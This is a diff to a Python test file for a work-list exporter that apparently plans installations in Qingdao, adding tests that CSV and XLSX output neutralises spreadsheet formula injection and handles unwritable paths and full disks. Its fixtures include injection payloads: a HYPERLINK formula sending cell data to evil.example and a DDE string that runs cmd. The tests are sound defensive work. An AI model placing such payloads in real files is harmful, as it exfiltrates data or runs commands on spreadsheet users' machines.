@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import csv
+import errno
 import re
 from datetime import date
 from pathlib import Path
@@ -202,6 +203,9 @@ def test_xlsx_has_three_sheets_and_the_same_rows(tmp_path: Path) -> None:
         tuple(None if pd.isna(v) or v == "" else v for v in r)
         for r in table.astype(object).itertuples(index=False, name=None)
     ]
+    detail = TABLE_COLUMNS.index("detail")
+    assert rows[2][detail] == '\'=HYPERLINK("x")'  # neutralised: a spreadsheet shows text
+    expected[1] = (*expected[1][:detail], rows[2][detail], *expected[1][detail + 1 :])
     assert [tuple(None if v == "" else v for v in r) for r in rows[1:]] == expected
     assert isinstance(rows[1][TABLE_COLUMNS.index("priority")], int)
     assert rows[1][TABLE_COLUMNS.index("owner")] == "青岛市某物业公司"
@@ -305,3 +309,74 @@ def test_html_in_chinese_for_the_offices() -> None:
     assert '<html lang="en">' in english and "禁止安装位置" not in english
     with pytest.raises(ValueError, match="language"):
         _page(language="fr")
+
+
+# --- untrusted text and failing disks -------------------------------------------------------
+
+DANGEROUS = {
+    "owner": '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "maintainer": "+1+1",
+    "address": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "contact": "\t=1+1",
+    "project_name": "  -2+3",
+    "district": "\r=1",
+}
+HARMLESS = {"pole_no": "-3.5", "detail": "a - b = c", "device_id": "+7"}
+
+
+def _dangerous_worklist() -> gpd.GeoDataFrame:
+    worklist = _worklist()
+    for column, value in {**DANGEROUS, **HARMLESS}.items():
+        worklist[column] = worklist[column].astype(object)
+        worklist.at[0, column] = value
+    return worklist
+
+
+def test_csv_cells_a_spreadsheet_would_run_get_an_apostrophe(tmp_path: Path) -> None:
+    path = tmp_path / "work.csv"
+    write_worklist_csv(path, _dangerous_worklist())
+    with path.open(encoding="utf-8", newline="") as stream:
+        first = next(iter(csv.DictReader(stream)))
+    for column, value in DANGEROUS.items():
+        assert first[column] == "'" + value, column
+    for column, value in HARMLESS.items():
+        assert first[column] == value, column
+
+
+def test_xlsx_cells_a_spreadsheet_would_run_get_an_apostrophe(tmp_path: Path) -> None:
+    path = tmp_path / "work.xlsx"
+    write_worklist_xlsx(path, _dangerous_worklist())
+    sheet = openpyxl.load_workbook(path)["Work list"]
+    first = dict(
+        zip(TABLE_COLUMNS, next(sheet.iter_rows(min_row=2, values_only=True)), strict=True)
+    )
+    for column, value in DANGEROUS.items():
+        assert first[column] == "'" + value.replace("\r", "\n"), column  # XML reads CR as LF
+        assert not str(first[column]).startswith(("=", "+", "-", "@"))
+    for column, value in HARMLESS.items():
+        assert first[column] == value, column
+
+
+@pytest.mark.parametrize("name", ["work.csv", "work.xlsx", "work.html"])
+def test_unwritable_targets_give_an_input_error_naming_the_file(
+    tmp_path: Path, name: str, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    blocker = tmp_path / "a-file"
+    blocker.write_text("x")
+    with pytest.raises(InputError, match="a-file"):
+        write_worklist(blocker / name, _worklist())
+    assert blocker.read_text() == "x"
+
+    target = tmp_path / name
+    write_worklist(target, _worklist())
+    before = target.read_bytes()
+
+    def full(*_: object) -> None:
+        raise OSError(errno.ENOSPC, "No space left on device")
+
+    monkeypatch.setattr("planner.io.files.replace_atomically", full)
+    with pytest.raises(InputError, match=r"disk is full") as caught:
+        write_worklist(target, _worklist(), title="again")
+    assert name in str(caught.value)
+    assert target.read_bytes() == before
+    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(["a-file", name])
